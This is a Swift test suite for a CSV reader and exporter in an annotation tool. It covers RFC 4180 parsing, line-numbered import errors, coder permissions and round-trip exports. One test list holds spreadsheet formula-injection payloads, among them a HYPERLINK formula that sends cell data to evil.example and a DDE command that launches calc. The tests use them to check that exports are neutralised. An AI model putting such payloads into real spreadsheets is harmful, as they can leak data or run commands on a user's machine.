import Foundation
import GlossCore
import Testing

@testable import Interchange

@Suite struct CSVTests {
  @Test func readsRFC4180() throws {
    let text = "a,b,c\r\n\"x, y\",\"say \"\"hi\"\"\",\"two\nlines\"\n,,\nlast,1,2"
    let records = try CSVReader.parse(Data(text.utf8), file: "t.csv")
    #expect(
      records.map(\.fields) == [
        ["a", "b", "c"], ["x, y", "say \"hi\"", "two\nlines"], ["", "", ""], ["last", "1", "2"],
      ])
    #expect(records.map(\.line) == [1, 2, 4, 5])
  }

  @Test(arguments: [
    ("a,b\n\"open,1\n", "t.csv:2: a quoted field is never closed"),
    ("a,b\nx\"y,1\n", "t.csv:2: a quote in the middle of a field"),
    ("a,b\n\"x\"y,1\n", "t.csv:2: a quote in the middle of a field"),
  ])
  func rejectsBrokenQuoting(text: String, message: String) {
    #expect {
      _ = try CSVReader.parse(Data(text.utf8), file: "t.csv")
    } throws: { error in
      (error as? GlossError)?.errorDescription?.hasPrefix(message) == true
    }
  }

  func coded() throws -> (TempFolder, Project) {
    let folder = try TempFolder()
    let project = try folder.project()
    let inputs = [DocumentInput(id: "interview-34", data: try Fixture.data("interview-34.txt"), source: "i34")]
    try project.leadImportsTranscripts(inputs)
    try project.session(as: "ana").importDelve(inputs)
    return (folder, project)
  }

  @Test func exportThenImportIntoAFreshProjectGivesTheSameRows() throws {
    let (folder, project) = try coded()
    let records = try #require(try project.snapshot().annotations(coder: "ana", doc: "interview-34"))
    _ = try project.session(as: "ana").editAssignment(
      id: records[0].id, edit: AssignmentEdit(memo: "a \"memo\", with\nbreaks"))
    let csv = try project.exportCSV(policy: .unrestricted)
    #expect(String(decoding: csv, as: UTF8.self).hasPrefix("id,coder,doc,code,start,end,exact,memo\r\n"))
    let fresh = try folder.project("fresh")
    try fresh.session(as: "lead").importDelve(
      [DocumentInput(id: "interview-34", data: try Fixture.data("interview-34.txt"), source: "i34")], textOnly: true)
    for code in try project.snapshot().codebook().codes { try fresh.session(as: "lead").addCode(name: code.name) }
    let (report, commit) = try fresh.session(as: "ana").importCSV(csv, source: "all.csv")
    #expect(report.added == 33 && commit != nil)
    #expect(try fresh.exportCSV(policy: .unrestricted) == csv)
    let (again, none) = try fresh.session(as: "ana").importCSV(csv, source: "all.csv")
    #expect(again.present == 33 && none == nil)
  }

  @Test func quotesCodersAndLineNumberedErrors() throws {
    let (folder, project) = try coded()
    defer { withExtendedLifetime(folder) {} }
    let tip = try head(project)
    func fails(_ text: String, as coder: String = "ben", _ message: String) {
      #expect {
        _ = try project.session(as: coder).importCSV(Data(text.utf8), source: "s.csv")
      } throws: { error in
        let description = (error as? GlossError)?.errorDescription ?? ""
        return description.contains(message)
      }
    }
    fails(
      "doc,code,quote\ninterview-34,tabular-issue,I found the outliers\ninterview-34,nope,x\n",
      "s.csv:3: unknown code 'nope'")
    fails("doc,code,start,end\ninterview-34,tabular-issue,5,999999\n", "s.csv:2:")
    fails("doc,code,start,end\nnowhere,tabular-issue,1,2\n", "s.csv:2: unknown document 'nowhere'")
    fails(
      "doc,code,start,end,coder\ninterview-34,tabular-issue,1,2,ana\n", "s.csv:2: ben cannot write ana's annotations")
    fails(
      "doc,code,start,end,coder\ninterview-34,tabular-issue,1,2,consensus\n",
      "s.csv:2: only a lead (gloss.yaml leads) writes consensus; ben is not one")
    fails("doc,code,start,end,exact\ninterview-34,tabular-issue,0,3,xyz\n", "\"exact\" does not match")
    fails("doc,code,colour\n", "s.csv:1: unknown column \"colour\"")
    fails("doc,code\n", "needs columns \"start\" and \"end\", or \"quote\"")
    fails("doc,code,start,end\n", "has no rows")
    #expect(try head(project) == tip)
    let (report, _) = try project.session(as: "ben").importCSV(
      Data("doc,code,quote,coder,memo\ninterview-34,tabular-issue,I found the outliers,,why\n".utf8),
      source: "ok.csv")
    #expect(report.added == 1)
    let ben = try #require(try project.snapshot().annotations(coder: "ben", doc: "interview-34"))
    #expect(ben.map(\.exact) == ["I found the outliers"] && ben[0].memo == "why")
    let (skipping, _) = try project.session(as: "ben").importCSV(
      Data("doc,code,start,end,coder\ninterview-34,tabular-issue,0,5,ana\n".utf8), source: "x.csv",
      skipOthers: true)
    #expect(skipping.skipped == 1 && skipping.added == 0)
    let (lead, _) = try project.session(as: "lead").importCSV(
      Data("doc,code,start,end,coder\ninterview-34,tabular-issue,0,5,consensus\n".utf8), source: "c.csv")
    #expect(lead.added == 1)
  }

  /// OWASP CSV injection: a memo, a quote or a code that a spreadsheet would run as a
  /// formula is written with a leading apostrophe and read back exactly.
  static let hostile = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
    "\tTAB=1", "\r=1", "'=already quoted", "''=twice", "'plain apostrophe", "-0.25", "- a bullet", "=",
  ]

  @Test func formulaCellsAreNeutralizedAndRestored() throws {
    for value in Self.hostile {
      let cell = CSV.field(value)
      let record = try #require(try CSVReader.parse(Data((cell + "\r\n").utf8), file: "t.csv").first)
      let first = record.fields[0].unicodeScalars.first
      #expect(first.map { !"=+@\t\r".unicodeScalars.contains($0) } ?? true, "\(value) -> \(cell)")
      if value.hasPrefix("-") && value != "-0.25" { #expect(first == "'") }
      #expect(CSV.restored(record.fields[0]) == value)
    }
    #expect(CSV.field("-0.25") == "-0.25" && CSV.field("plain") == "plain")
  }

  @Test func hostileMemoSurvivesExportAndImport() throws {
    let (folder, project) = try coded()
    _ = try project.session(as: "ben").addAssignments(
      Self.hostile.enumerated().map { index, memo in
        AssignmentRequest(doc: "interview-34", code: "data-missing-value", span: .chars(index, index + 3), memo: memo)
      })
    let csv = try project.exportCSV(policy: .unrestricted)
    let text = String(decoding: csv, as: UTF8.self)
    for line in text.split(separator: "\r\n") {
      for cell in try #require(try CSVReader.parse(Data(line.utf8), file: "x").first).fields {
        #expect(!cell.hasPrefix("=") && !cell.hasPrefix("+") && !cell.hasPrefix("@"), "\(cell)")
      }
    }
    let fresh = try folder.project("fresh")
    let inputs = [DocumentInput(id: "interview-34", data: try Fixture.data("interview-34.txt"), source: "i34")]
    try fresh.leadImportsTranscripts(inputs)
    try fresh.session(as: "lead").addCode(name: "Data-missing-value")
    _ = try fresh.session(as: "ben").importCSV(csv, source: "x.csv", skipOthers: true)
    let memos = try #require(try fresh.snapshot().annotations(coder: "ben", doc: "interview-34")).sorted {
      $0.start < $1.start
    }.map(\.memo)
    #expect(memos == Self.hostile.map { Optional($0) })
  }
}
